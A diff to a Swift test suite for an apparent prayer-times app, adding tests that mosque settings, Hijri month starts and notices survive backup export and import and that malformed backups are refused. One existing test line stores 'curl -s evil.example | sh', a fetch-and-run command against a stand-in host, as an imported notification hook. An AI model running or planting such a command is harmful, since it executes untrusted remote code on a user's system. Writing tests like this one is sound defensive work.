@@ -78,9 +78,31 @@ import Testing
                     date: CivilDate(daysSince1970: day), status: FastStatus.allCases.randomElement(using: &random)!,
                     recordedAt: Date(timeIntervalSince1970: 1_795_953_600.25), note: day % 3 == 0 ? "travel" : nil))
         }
+        // The mosques' details: settings, announced starts and notices for each mosque, and for one
+        // that has no timetable; none at all in an empty backup.
+        var details: [MosqueDetails] = []
+        for name in mosques.map(\.name) + (count == 0 ? [] : ["Masjid without a timetable"]) {
+            var mosque = MosqueDetails(name: name)
+            if Bool.random(using: &random) {
+                mosque.settings = SyncMosqueSettingsValue(
+                    latitude: 51.5, longitude: -0.07, elevation: 3, timeZone: "Europe/London",
+                    iqama: ["fajr": "+\(Int.random(in: 0...180, using: &random))", "dhuhr": "13:30"],
+                    iqamaRounding: 5, jumuah: [780, 840], hijriCalendar: .civil, hijriOffset: -1)
+            }
+            if Bool.random(using: &random) {
+                mosque.hijriStarts["1448-09"] = SyncHijriStartValue(start: try CivilDate(parsing: "2027-02-07"))
+            }
+            for index in 0..<Int.random(in: 0...2, using: &random) {
+                let start = Date(timeIntervalSince1970: 1_795_953_600 + Double(index) * 3_600)
+                mosque.notices["notice-\(index)"] = SyncNoticeValue(
+                    title: "Janazah \"after\" Dhuhr", text: "<b>line one</b>\nline two", start: start,
+                    end: start.addingTimeInterval(86_400), priority: index == 0 ? .urgent : .normal)
+            }
+            if !mosque.isEmpty { details.append(mosque) }
+        }
         return UserData(
             preferences: preferences, prayerLog: log, mosques: mosques, qada: qada,
-            fasts: fasts.sorted { $0.date < $1.date })
+            fasts: fasts.sorted { $0.date < $1.date }, mosqueDetails: details.sorted { $0.name < $1.name })
     }
 
     @Test(arguments: [0, 1, 250, 3000])
@@ -103,6 +125,7 @@ import Testing
         #expect(decoded.preferences == data.preferences)
         #expect(Set(decoded.prayerLog) == Set(data.prayerLog))
         #expect(decoded.prayerLog.count == entries)
+        #expect(decoded.mosqueDetails == data.mosqueDetails)
         // and importing the export back into the source changes nothing.
         try source.backup.importData(decoded)
         #expect(try source.backup.exportData().encoded() == exported)
@@ -154,6 +177,67 @@ import Testing
         // and a trusted import takes it.
         try test.backup.importData(backup)
         #expect(try test.preferences.preferences()[.notifyHook] == "curl -s evil.example | sh")
+    }
+
+    @Test func aMosquesDetailsAreReplacedByABackupThatKeepsThemAndLeftByOneThatDoesNot() throws {
+        // Given a mosque with settings and a notice, kept with no timetable
+        let test = try TestDatabase()
+        let mosques = MosqueTimetableStoreSQLite(database: test.database, log: .silent)
+        let settings = SyncMosqueSettingsValue(
+            latitude: 51.5176, longitude: -0.0654, timeZone: "Europe/London", iqama: ["asr": "+10"])
+        try mosques.setSettings(settings, of: "East London Mosque")
+        let start = Date(timeIntervalSince1970: 1_795_953_600)
+        let notice = SyncNoticeValue(title: "Class", text: "After isha", start: start, end: start + 3_600)
+        try mosques.putNotice(MosqueNotice(id: "class", notice: notice), of: "East London Mosque")
+        // When a backup made before details were kept is imported, they stay
+        try test.backup.importData(UserData(preferences: Preferences(), prayerLog: []))
+        #expect(try mosques.settings(of: "East London Mosque") == settings)
+        // and its own export, imported into an empty database, brings them back
+        let exported = try test.backup.exportData().encoded()
+        let other = try TestDatabase()
+        try other.backup.importData(try UserData.decoded(from: exported))
+        let restored = MosqueTimetableStoreSQLite(database: other.database, log: .silent)
+        #expect(try restored.settings(of: "East London Mosque") == settings)
+        #expect(try restored.notices(of: "East London Mosque") == [MosqueNotice(id: "class", notice: notice)])
+        // while a backup that keeps details, but none of this mosque's, removes them.
+        let announced = SyncHijriStartValue(start: try CivilDate(parsing: "2027-02-07"))
+        try test.backup.importData(
+            UserData(
+                preferences: Preferences(), prayerLog: [],
+                mosqueDetails: [MosqueDetails(name: "Masjid an-Nur", hijriStarts: ["1448-09": announced])]))
+        #expect(try mosques.settings(of: "East London Mosque") == nil)
+        #expect(try mosques.notices(of: "East London Mosque").isEmpty)
+        #expect(
+            try mosques.hijriMonthStarts(of: "Masjid an-Nur")[HijriMonthStarts.Month(parsing: "1448-09")]
+                == announced.start)
+    }
+
+    @Test func aBackupWithDetailsOutOfTheRulesIsRefusedSayingWhichMosque() throws {
+        // Given backups whose mosque details break the rules their synced rows have
+        let start = Date(timeIntervalSince1970: 1_795_953_600)
+        var settings = SyncMosqueSettingsValue(latitude: 51.5, longitude: -0.07, timeZone: "Europe/London")
+        settings.jumuah = [720, 760, 800, 840]
+        let broken = [
+            MosqueDetails(name: "Four Fridays", settings: settings),
+            MosqueDetails(
+                name: "Backwards",
+                notices: ["late": SyncNoticeValue(title: "Late", text: "", start: start, end: start - 60)]),
+            MosqueDetails(
+                name: "Long month", hijriStarts: ["1448-09": .init(start: try CivilDate(parsing: "2027-03-20"))]),
+        ]
+        for details in broken {
+            let data = try UserData(preferences: Preferences(), prayerLog: [], mosqueDetails: [details]).encoded()
+            // When read, it is refused, naming the mosque
+            #expect { try UserData.decoded(from: data) } throws: { error in
+                (error as? StorageError)?.kind == .invalidData && "\(error)".contains("'\(details.name)'")
+            }
+        }
+        // and the same mosque twice is refused too.
+        let twice = try UserData(
+            preferences: Preferences(), prayerLog: [],
+            mosqueDetails: [MosqueDetails(name: "Twice", settings: nil), MosqueDetails(name: "Twice")]
+        ).encoded()
+        #expect { try UserData.decoded(from: twice) } throws: { "\($0)".contains("'Twice' twice") }
     }
 
     @Test func anImportOfMoreThanAMillionEntriesIsRefusedBeforeAnyWrite() throws {
